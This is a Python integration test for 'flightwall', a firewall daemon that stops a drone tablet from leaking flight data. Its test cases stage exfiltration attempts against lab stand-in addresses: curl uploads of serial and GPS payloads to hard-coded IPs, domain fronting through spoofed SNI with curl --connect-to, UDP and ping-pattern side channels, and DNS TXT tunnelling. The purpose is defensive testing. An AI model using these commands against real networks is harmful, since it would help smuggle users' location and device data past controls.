#!/usr/bin/env python3
"""`flightwall run` enforcing the lab copy of rules/local-data-mode.yaml, rule
by rule, in a namespace lab of its own (scripts/flightwall_lab).

The test is a table of cases. Each case names the tablet's clients (curl,
dig, nc, ping, a UDP socket), what each client must see, and the witnesses
that judge it afterwards, independently of the client:
  - tcpdump on the inet side (tshark display filters count what crossed the
    router: zero TCP payload bytes / UDP datagrams / DNS questions for what
    is denied, and the allowed traffic is there);
  - tcpdump on the tablet side (the attempt was made; the reset or ICMP
    unreachable the daemon sent back);
  - dnsmasq's query log (a denied name never reaches the resolver, an
    allowed one does) and nginx's access log;
  - exit statuses and timings in the tablet (a denied connection fails fast
    with a reset, a denied name gets REFUSED from the daemon, no timeouts);
  - the daemon's event log (an entry with the right host name and reason)
    and `flightwall verify-log`.
IPv4 and IPv6 wherever the lab has both. All clients run first, with both
captures on; the witnesses read the evidence once the daemon has stopped.
Exit 77 (skip) without root or a needed tool.
"""

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time

SRC = os.environ.get("FLIGHTWALL_SOURCE_DIR") or os.path.dirname(
    os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(SRC, "scripts"))

# pylint: disable=wrong-import-position
from flightwall_lab import lab as lab_mod  # noqa: E402
from flightwall_lab.cases import (INET, TABLET, Case, Client,  # noqa: E402
                                  Evidence, Witness, chain_intact,
                                  dig_status, event, http_200, lines_with,
                                  log_has, log_lacks, matches, none_in,
                                  reset_fast, run_client, some_in)
from flightwall_lab.checks import Checks  # noqa: E402
from flightwall_lab.daemon import Daemon  # noqa: E402
from flightwall_lab.names import Lab  # noqa: E402
from flightwall_lab.procs import LabError, exit_on_term, output  # noqa: E402
from flightwall_lab.services import exfil_names  # noqa: E402
from flightwall_lab.witness import Capture  # noqa: E402

FW = os.environ.get("FLIGHTWALL") or os.path.join(SRC, "build", "daemon",
                                                  "flightwall")
TOOLS = ("ip", "iptables", "dnsmasq", "nginx", "openssl", "curl", "dig", "nc",
         "ping", "tcpdump", "tshark", "python3", "ss")
NET_PROBE = os.path.join(SRC, "tests", "integration", "net_probe.py")
# A located side-channel datagram, as a flight app would send it.
UDP_LEAK = "FWLAB-UDP lat=46.51234 lon=6.63201 alt=118"


def unattested(desc: str, dst: str, **more) -> Witness:
    """A flow denied because DNS never attested its address."""
    return event(desc, event="flow", verdict="deny", dst=dst,
                 reason="no-dns-attestation", **more)


# --- the cases -------------------------------------------------------------------


def rules_table(ctx: Evidence, payload: str) -> list:
    ca = ctx.lab.ca
    mb = "v4/mapbox.satellite"
    front = "a.tiles.mapbox.com"
    fronted_hello = ('ip.dst == 198.51.100.40 && '
                     f'tls.handshake.extensions_server_name == "{front}"')

    def curl(*args):
        return ["curl", "-sS", "--max-time", "5", "--connect-timeout", "3",
                "--cacert", ca, "-o", "/dev/null", "-w", "%{http_code}\n",
                *args]

    def dig(server, name, qtype):
        return ["dig", "+time=2", "+tries=1", f"@{server}", name, qtype]

    upload = ("--data-binary", f"@{payload}")
    refused_fast = lambda r: dig_status(r.out) == "REFUSED" and r.ms < 1500  # noqa: E731
    reset = lambda what, *args: reset_fast(what, curl(*args))  # noqa: E731
    exfil = exfil_names()

    return [
        Case("tiles", [
            Client("tiles v4: https://a.tiles.mapbox.com through the daemon -> 200",
                   [curl("-4", f"https://a.tiles.mapbox.com/{mb}/1/0/1.png")], http_200),
            Client("tiles v6: https://tile.openstreetmap.org over IPv6 through the daemon -> 200",
                   [curl("-6", "https://tile.openstreetmap.org/1/0/1.png")], http_200),
        ], [
            some_in("tiles v4: the TLS handshake reached the tile server", INET,
                    'ip.dst == 198.51.100.10 && '
                    'tls.handshake.extensions_server_name == "a.tiles.mapbox.com"'),
            some_in("tiles v6: the TLS handshake reached the tile server", INET,
                    'ipv6.dst == 2001:db8:100::10 && '
                    'tls.handshake.extensions_server_name == "tile.openstreetmap.org"'),
            event("tiles v4: event allow a.tiles.mapbox.com allowed-host (mapbox-tiles)",
                  event="flow", verdict="allow", hostname="a.tiles.mapbox.com",
                  dst="198.51.100.10", reason="allowed-host", rule="mapbox-tiles"),
            event("tiles v6: event allow tile.openstreetmap.org on 2001:db8:100::10",
                  event="flow", verdict="allow", hostname="tile.openstreetmap.org",
                  dst="2001:db8:100::10", reason="allowed-host"),
        ]),
        Case("dns-tiles", [
            Client("DNS tiles v4: api.mapbox.com A from 203.0.113.53 -> NOERROR 198.51.100.10",
                   [dig("203.0.113.53", "api.mapbox.com", "A")],
                   lambda r: dig_status(r.out) == "NOERROR"
                   and lines_with(r.out, "IN\tA\t198.51.100.10") == 1),
            Client("DNS tiles v6: b.tiles.mapbox.com AAAA from 2001:db8:53::53 -> 2001:db8:100::10",
                   [dig("2001:db8:53::53", "b.tiles.mapbox.com", "AAAA")],
                   lambda r: dig_status(r.out) == "NOERROR"
                   and lines_with(r.out, "IN\tAAAA\t2001:db8:100::10") == 1),
        ], [
            Witness("DNS tiles: the resolver logged the tablet's api.mapbox.com A and "
                    "b.tiles.mapbox.com AAAA",
                    log_has("dnsmasq-main.log", "query[A] api.mapbox.com from 192.0.2.10",
                            "query[AAAA] b.tiles.mapbox.com from 2001:db8:1::10")),
            some_in("DNS tiles v6: the question crossed the router", INET,
                    'ipv6.dst == 2001:db8:53::53 && dns.qry.name == "b.tiles.mapbox.com"'),
            event("DNS tiles: event allow api.mapbox.com dns-allowed", event="dns",
                  verdict="allow", hostname="api.mapbox.com", reason="dns-allowed"),
        ]),
        Case("dns-vendor", [
            Client("DNS vendor v4: flightlog.dji.com -> REFUSED by the daemon in {ms} ms",
                   [dig("203.0.113.53", "flightlog.dji.com", "A")], refused_fast),
            Client("DNS vendor v6: www.skypixel.com AAAA -> REFUSED by the daemon in {ms} ms",
                   [dig("2001:db8:53::53", "www.skypixel.com", "AAAA")], refused_fast),
        ], [
            Witness("DNS vendor: flightlog.dji.com and www.skypixel.com are absent from the "
                    "resolver's log",
                    log_lacks("dnsmasq-main.log", r"flightlog\.dji\.com|www\.skypixel\.com")),
            none_in("DNS vendor: no question for them crossed the router", INET,
                    'dns.qry.name == "flightlog.dji.com" || dns.qry.name == "www.skypixel.com"'),
            some_in("DNS vendor: the tablet got REFUSED answers", TABLET,
                    'dns.flags.response == 1 && dns.flags.rcode == 5 && '
                    'dns.qry.name == "flightlog.dji.com"'),
            event("DNS vendor v4: event deny flightlog.dji.com dns-name-not-allowed",
                  event="dns", verdict="deny", hostname="flightlog.dji.com",
                  reason="dns-name-not-allowed"),
            event("DNS vendor v6: event deny www.skypixel.com via 2001:db8:53::53",
                  event="dns", verdict="deny", hostname="www.skypixel.com",
                  dst="2001:db8:53::53", reason="dns-name-not-allowed"),
        ]),
        Case("rogue-resolver", [
            Client(f"rogue resolver {r}: no answer, and no timeout ({{ms}} ms, dig exit {{rc}})",
                   [dig(r, "api.mapbox.com", "A")],
                   lambda res: "198.51.100.99" not in res.out and res.ms < 1500)
            for r in ("203.0.113.99", "2001:db8:99::99")
        ], [
            none_in("rogue resolver v4: nothing reached 203.0.113.99", INET,
                    "ip.dst == 203.0.113.99"),
            none_in("rogue resolver v6: nothing reached 2001:db8:99::99", INET,
                    "ipv6.dst == 2001:db8:99::99"),
            Witness("rogue resolver: its log has no question from the tablet",
                    log_lacks("dnsmasq-rogue.log",
                              r"(?m)from (192\.0\.2\.10|2001:db8:1::10)$")),
        ] + [
            event(f"rogue resolver: event deny {r} dns-resolver-not-allowed",
                  verdict="deny", dst=r, reason="dns-resolver-not-allowed")
            for r in ("203.0.113.99", "2001:db8:99::99")
        ]),
        Case("hard-coded-ip", [
            reset("hard-coded IP v4 https://203.0.113.77", "-k", *upload,
                  "https://203.0.113.77/upload"),
            reset("hard-coded IP v6 https://[2001:db8:77::77]", "-k", *upload,
                  "https://[2001:db8:77::77]/upload"),
            Client("hard-coded IP plain TCP 203.0.113.77:8443: nc ends in {ms} ms, no answer",
                   [["nc", "-N", "-w", "3", "203.0.113.77", "8443"]],
                   lambda r: r.ms < 2000 and "400" not in r.out, stdin=payload),
        ], [
            none_in("hard-coded IP v4: zero TCP payload bytes reached 203.0.113.77", INET,
                    "ip.dst == 203.0.113.77 && tcp.len > 0"),
            none_in("hard-coded IP v6: zero TCP payload bytes reached 2001:db8:77::77", INET,
                    "ipv6.dst == 2001:db8:77::77 && tcp.len > 0"),
            some_in("hard-coded IP v4: the tablet got resets from 203.0.113.77", TABLET,
                    "ip.src == 203.0.113.77 && tcp.flags.reset == 1"),
            some_in("hard-coded IP v6: the tablet got a reset from 2001:db8:77::77", TABLET,
                    "ipv6.src == 2001:db8:77::77 && tcp.flags.reset == 1"),
            Witness("hard-coded IP: nginx logged no request on 203.0.113.77 / 2001:db8:77::77",
                    log_lacks("nginx-access.log", r"203\.0\.113\.77|2001:db8:77::77")),
            unattested("hard-coded IP v4: event deny 203.0.113.77:443 no-dns-attestation",
                       "203.0.113.77", dport=443),
            unattested("hard-coded IP v4: event deny 203.0.113.77:8443 no-dns-attestation",
                       "203.0.113.77", dport=8443),
            unattested("hard-coded IP v6: event deny [2001:db8:77::77]:443 no-dns-attestation",
                       "2001:db8:77::77"),
        ]),
        # The allowed name as SNI, sent to the vendor's address: DNS never
        # attested that address (the daemon refused the vendor's names), so
        # the SYN is already refused. Then to the shared CDN address that DNS
        # attested for another name (d.tiles.mapbox.com): the ClientHello
        # leaves the tablet, the SNI is allowed but not attested there.
        Case("fronting", [
            reset(f"fronting v4: {front} to the vendor's 198.51.100.20", "-4", "-k",
                  "--connect-to", f"{front}:443:198.51.100.20:443", *upload,
                  f"https://{front}/front"),
            reset(f"fronting v6: {front} to the vendor's 2001:db8:100::20", "-6", "-k",
                  "--connect-to", f"{front}:443:[2001:db8:100::20]:443", *upload,
                  f"https://{front}/front"),
            reset(f"fronting via CDN: SNI {front} to 198.51.100.40 (attested for "
                  "d.tiles.mapbox.com)", "-4", "-k", "--connect-to",
                  f"{front}:443:d.tiles.mapbox.com:443", *upload, f"https://{front}/front"),
        ], [
            some_in("fronting: the tablet tried the vendor's address", TABLET,
                    "ip.dst == 198.51.100.20 && tcp.flags.syn == 1"),
            none_in("fronting v4: zero TCP payload bytes reached the vendor 198.51.100.20",
                    INET, "ip.dst == 198.51.100.20 && tcp.len > 0"),
            none_in("fronting v6: zero TCP payload bytes reached the vendor 2001:db8:100::20",
                    INET, "ipv6.dst == 2001:db8:100::20 && tcp.len > 0"),
            some_in("fronting via CDN: the tablet sent the fronted ClientHello", TABLET,
                    fronted_hello),
            none_in("fronting via CDN: the fronted ClientHello never crossed the router", INET,
                    fronted_hello),
            Witness("fronting: nginx logged no /front request",
                    log_lacks("nginx-access.log", "/front")),
            unattested("fronting v4: event deny 198.51.100.20:443 no-dns-attestation",
                       "198.51.100.20", dport=443),
            unattested("fronting v6: event deny [2001:db8:100::20]:443 no-dns-attestation",
                       "2001:db8:100::20"),
            event(f"fronting via CDN: event deny {front} on 198.51.100.40 "
                  "name-not-attested-for-address", event="flow", verdict="deny",
                  hostname=front, dst="198.51.100.40", reason="name-not-attested-for-address"),
        ]),
        # The upload name, on the allowed tiles' CDN address, reached as the
        # app would once DNS refused its own name: through an allowed answer.
        Case("shared-cdn", [
            Client("shared CDN: allowed d.tiles.mapbox.com (CNAME to 198.51.100.40) -> 200",
                   [curl("-4", f"https://d.tiles.mapbox.com/{mb}/1/1/0.png")], http_200),
            reset("shared CDN: denied SNI cdn-upload.dji.com on 198.51.100.40", "-4",
                  "--connect-to", "cdn-upload.dji.com:443:d.tiles.mapbox.com:443", *upload,
                  "https://cdn-upload.dji.com/upload"),
        ], [
            some_in("shared CDN: the allowed handshake reached 198.51.100.40", INET,
                    'ip.dst == 198.51.100.40 && '
                    'tls.handshake.extensions_server_name == "d.tiles.mapbox.com"'),
            none_in("shared CDN: no cdn-upload.dji.com ClientHello crossed the router", INET,
                    'tls.handshake.extensions_server_name == "cdn-upload.dji.com"'),
            Witness("shared CDN: nginx served d.tiles.mapbox.com and never saw "
                    "cdn-upload.dji.com",
                    lambda c: log_has("nginx-access.log", "sni=d.tiles.mapbox.com")(c)
                    and log_lacks("nginx-access.log", "cdn-upload")(c)),
            event("shared CDN: event allow d.tiles.mapbox.com on 198.51.100.40",
                  event="flow", verdict="allow", hostname="d.tiles.mapbox.com",
                  dst="198.51.100.40"),
            event("shared CDN: event deny cdn-upload.dji.com on 198.51.100.40 "
                  "name-not-allowed", event="flow", verdict="deny",
                  hostname="cdn-upload.dji.com", dst="198.51.100.40",
                  reason="name-not-allowed"),
        ]),
        Case("udp", [
            Client(f"UDP side channel {a}:9999: ICMP unreachable, not an echo "
                   "({out}, {ms} ms)",
                   [["python3", NET_PROBE, "udp-error", a, "9999", UDP_LEAK]],
                   lambda r: re.search(r"(?m)^E[A-Z]+$", r.out) is not None
                   and r.ms < 1500)
            for a in ("203.0.113.88", "2001:db8:88::88")
        ], [
            none_in("UDP v4: zero datagrams reached 203.0.113.88", INET,
                    "udp && ip.dst == 203.0.113.88"),
            none_in("UDP v6: zero datagrams reached 2001:db8:88::88", INET,
                    "udp && ipv6.dst == 2001:db8:88::88"),
            some_in("UDP v4: the tablet got ICMP unreachable from 203.0.113.88", TABLET,
                    "icmp.type == 3 && ip.src == 203.0.113.88"),
            some_in("UDP v6: the tablet got ICMPv6 unreachable from 2001:db8:88::88", TABLET,
                    "icmpv6.type == 1 && ipv6.src == 2001:db8:88::88"),
        ] + [
            unattested(f"UDP: event deny udp {a}:9999 no-dns-attestation", a,
                       protocol="udp", dport=9999)
            for a in ("203.0.113.88", "2001:db8:88::88")
        ]),
        Case("icmp", [
            Client("ICMP v4: ping 203.0.113.88 gets no reply (exit {rc})",
                   [["ping", "-n", "-c", "2", "-W", "1", "-i", "0.2", "-p",
                     "4c41543d34362e35", "203.0.113.88"]], lambda r: r.rc != 0),
            Client("ICMP v6: ping 2001:db8:88::88 gets no reply (exit {rc})",
                   [["ping", "-6", "-n", "-c", "2", "-W", "1", "-i", "0.2",
                     "2001:db8:88::88"]], lambda r: r.rc != 0),
        ], [
            none_in("ICMP v4: no echo request reached 203.0.113.88", INET,
                    "icmp.type == 8 && ip.dst == 203.0.113.88"),
            none_in("ICMP v6: no echo request reached 2001:db8:88::88", INET,
                    "icmpv6.type == 128 && ipv6.dst == 2001:db8:88::88"),
            event("ICMP v4: event deny icmp 203.0.113.88 icmp-echo-denied", verdict="deny",
                  protocol="icmp", dst="203.0.113.88", reason="icmp-echo-denied"),
            event("ICMP v6: event deny icmpv6 2001:db8:88::88 icmp-echo-denied",
                  verdict="deny", protocol="icmpv6", dst="2001:db8:88::88",
                  reason="icmp-echo-denied"),
        ]),
        Case("dns-exfil", [
            Client(lambda r: f"DNS exfiltration: {len(exfil)} TXT questions, "
                   f"{sum(dig_status(o) == 'REFUSED' for o in r.outs)} REFUSED by the "
                   f"daemon in {r.ms} ms",
                   [["dig", "+time=2", "+tries=1", "TXT", n] for n in exfil],
                   lambda r: len(r.outs) == 5 and r.ms < 5000
                   and all(dig_status(o) == "REFUSED" for o in r.outs)),
        ], [
            Witness("DNS exfiltration: dns-tunnel.example is absent from the resolver's log",
                    log_lacks("dnsmasq-main.log", "dns-tunnel")),
            none_in("DNS exfiltration: no tunnel question crossed the router", INET,
                    'dns.qry.name contains "dns-tunnel"'),
            Witness("DNS exfiltration: 5 deny events (dns-name-not-allowed) in the event log",
                    lambda c: sum(1 for e in c.events
                                  if matches(e, {"event": "dns", "verdict": "deny",
                                                 "qtype": 16,
                                                 "reason": "dns-name-not-allowed"})
                                  and str(e.get("hostname", "")).endswith(
                                      ".dns-tunnel.example")) == 5),
        ]),
    ]


# --- running the table ------------------------------------------------------------


def rules_in_gw(lab: Lab, text: str) -> list:
    """Whether iptables-save / ip6tables-save in the gw hold TEXT."""
    return [text in output("ip", "netns", "exec", lab.gw, tool)
            for tool in ("iptables-save", "ip6tables-save")]


def skip(why: str) -> None:
    print(f"SKIP: daemon_rules_test: {why}")
    sys.exit(77)


def requirements() -> None:
    if os.geteuid() != 0:
        skip("needs root (network namespaces, NFQUEUE)")
    for tool in TOOLS:
        if shutil.which(tool) is None:
            skip(f"needs '{tool}' (run scripts/setup)")
    if not os.access(FW, os.X_OK):
        skip(f"no flightwall binary at {FW} (set FLIGHTWALL or build it)")
    probe = f"fwprobe{os.getpid()}"
    if subprocess.run(["ip", "netns", "add", probe], check=False,
                      capture_output=True).returncode != 0:
        skip("cannot create network namespaces here")
    subprocess.run(["ip", "netns", "del", probe], check=False)


def enforce_and_witness(ctx: Evidence, checks: Checks) -> None:
    lab = ctx.lab
    daemon = Daemon(lab)
    try:
        daemon.start()
    except LabError as err:
        checks.record(False, f"daemon start (flightwall run in {lab.gw}): {err}")
        return
    checks.record(True, f"flightwall run is READY in {lab.gw}")
    checks.check(f"its iptables and ip6tables rules are installed in {lab.gw} "
                 "(FORWARD jumps to its chain)",
                 lambda: all(rules_in_gw(lab, "-A FORWARD -j FLIGHTWALL")))

    payload = os.path.join(ctx.work, "payload.bin")
    with open(payload, "wb") as f:
        f.write(b"FWLAB-UPLOAD serial=1ZNBJ7A00C0001 lat=46.51234 lon=6.63201\n"
                + os.urandom(4000).hex().encode())
    table = rules_table(ctx, payload)
    captures = []
    try:
        for side, ns in ((INET, lab.inet), (TABLET, lab.tablet)):
            ctx.pcaps[side] = os.path.join(ctx.work, f"{side}.pcap")
            captures.append(Capture(ns, "eth0", ctx.pcaps[side]).start())
    except LabError as err:
        for cap in captures:
            cap.stop()
        checks.record(False, f"tcpdump on both sides: {err}")
        return
    for case in table:
        for client in case.clients:
            run_client(lab, client, checks)
    time.sleep(0.3)  # the last resets and answers cross the router
    for cap in captures:
        cap.stop()

    rc, metrics, _ = daemon.scrape()
    checks.check("metrics: the scrape counts denied and allowed packets",
                 lambda: rc == 0 and all(re.search(
                     rf'(?m)^flightwall_packets_total\{{verdict="{v}"\}} [1-9]',
                     metrics) for v in ("deny", "allow")))
    checks.check("daemon stop: SIGTERM, clean exit", daemon.stop)
    checks.check("the daemon exited with status 0 on SIGTERM",
                 lambda: (daemon.exit_status == 0, f"(status {daemon.exit_status})"))
    checks.check(f"the daemon removed its rules from {lab.gw} on SIGTERM",
                 lambda: not any(rules_in_gw(lab, "FLIGHTWALL")))
    events = os.path.join(ctx.work, "events.jsonl")
    if os.path.exists(lab.path("events.jsonl")):
        shutil.copyfile(lab.path("events.jsonl"), events)
    else:
        open(events, "w", encoding="utf-8").close()
    checks.check("flightwall verify-log: the event log's hash chain is intact",
                 lambda: subprocess.run([FW, "verify-log", events],
                                        check=False).returncode == 0)
    checks.check("the hash chain recomputed independently (python3)",
                 lambda: chain_intact(events))
    with open(events, encoding="utf-8") as f:
        ctx.events = [json.loads(line) for line in f if line.strip()]

    for case in table:
        for w in case.witnesses:
            checks.check(w.desc, lambda w=w: w.probe(ctx))

    if checks.failed:
        print("--- daemon log (last 30 lines)")
        print("".join(ctx.log("daemon.log").splitlines(True)[-30:]), end="")
        print("--- events")
        for e in ctx.events[:80]:
            print(json.dumps([e.get(k) for k in ("event", "verdict", "reason",
                                                  "protocol", "dst", "dport",
                                                  "hostname")]))


def main() -> int:
    requirements()
    exit_on_term()
    os.environ["FLIGHTWALL"] = FW
    checks = Checks()
    work = tempfile.mkdtemp(prefix="daemon_rules.")
    lab = Lab(f"fwr{os.getpid()}", os.path.join(work, "lab"))
    os.makedirs(lab.state)
    try:
        try:
            lab_mod.up(lab)
        except LabError as err:
            checks.record(False, f"lab up: {err}")
            return checks.summary()
        enforce_and_witness(Evidence(lab, work), checks)
        return checks.summary()
    finally:
        try:
            lab_mod.down(lab)
        finally:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
